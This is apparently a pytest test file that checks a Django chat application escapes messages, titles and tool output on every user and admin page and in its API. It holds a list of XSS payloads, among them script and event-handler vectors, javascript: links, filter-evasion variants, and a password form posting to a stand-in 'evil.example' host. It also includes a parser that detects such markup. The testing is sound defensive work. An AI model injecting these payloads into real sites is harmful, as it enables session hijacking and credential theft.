"""Text of people and of the model is never markup: payloads through message, title and tool output, on every page."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any
from uuid import uuid4

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from conversations.services import create_conversation, record_message

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "`</code><script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "{{7*7}}{% load x %}",
    "<form action=https://evil.example><input name=password>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<x onclick=alert(1)>x</x>",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]  # fmt: skip


class Reader(HTMLParser):
    """Notes whatever in a page could act."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        handlers = [name for name in values if name.startswith("on")]
        if (
            handlers
            or tag in {"iframe", "object", "embed", "base", "math", "template", "details", "style"} - ALLOWED
        ):
            self.wrong.append(f"{tag} {handlers}")
        if (
            tag == "script"
            and "src" not in values
            and values.get("type") not in ("application/json", "importmap")
        ):
            self.wrong.append("inline script")
        for name in ("href", "src", "action", "content"):
            value = values.get(name, "").strip().lower()
            if re.match(r"(javascript|vbscript|data:text)", value) or "evil.example" in value:
                self.wrong.append(f"{tag} {name}")


ALLOWED = {"details", "template"}  # our own pages and Django's admin have some, without handlers


def wrong_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    return reader.wrong


@pytest.fixture
def pages(ada: User, operator: User) -> Any:
    """`pages(payload)`: every page on which the payload could be shown, to the person and to staff."""

    def show(payload: str) -> dict[str, str]:
        conversation = create_conversation(owner=ada, title=payload)
        for position, role in enumerate(("user", "assistant", "tool"), 1):
            record_message(
                conversation_id=conversation.pk, session_id=uuid4(), item_id=role, position=position, role=role,
                modality="voice", status="completed", text=payload,
            )  # fmt: skip
        hers, theirs = Client(), Client()
        hers.force_login(ada)
        theirs.force_login(operator)
        read = reverse("admin:conversations_conversation_read", args=[conversation.pk])
        answers = {
            "chat": hers.get(f"/chat/{conversation.pk}/"),
            "history": hers.get("/history/"),
            "search": hers.get("/history/", {"q": payload}),
            "admin list": theirs.get("/admin/conversations/conversation/"),
            "admin": theirs.get(f"/admin/conversations/conversation/{conversation.pk}/change/"),
            "admin reading": theirs.post(read, {"reason": "a test of the markup"}),
        }
        return {
            name: answer.content.decode() for name, answer in answers.items() if answer.status_code == 200
        }

    return show


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_markup_on_any_page(pages: Any, payload: str) -> None:
    shown = pages(payload)
    assert {"chat", "history", "admin", "admin reading"} <= set(shown)
    assert {name: wrong_in(html) for name, html in shown.items() if wrong_in(html)} == {}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_markup_in_the_html_of_the_api(pages: Any, ada: User, payload: str) -> None:
    pages(payload)
    hers = Client()
    hers.force_login(ada)
    [conversation] = hers.get("/api/conversations/").json()["results"]
    address = f"/api/conversations/{conversation['id']}/"
    for row in hers.get(f"{address}messages/").json()["results"]:
        assert wrong_in(row["html"] or "") == []
    for form in ("json", "markdown", "webvtt"):
        answer = hers.get(f"{address}export/{form}/")
        assert "html" not in answer["Content-Type"]
        assert answer["Content-Disposition"].startswith("attachment")
        assert answer["X-Content-Type-Options"] == "nosniff"


def test_the_reader_of_this_test_sees_what_it_is_to_see() -> None:
    for html in PAYLOADS[:8]:
        assert wrong_in(html), html
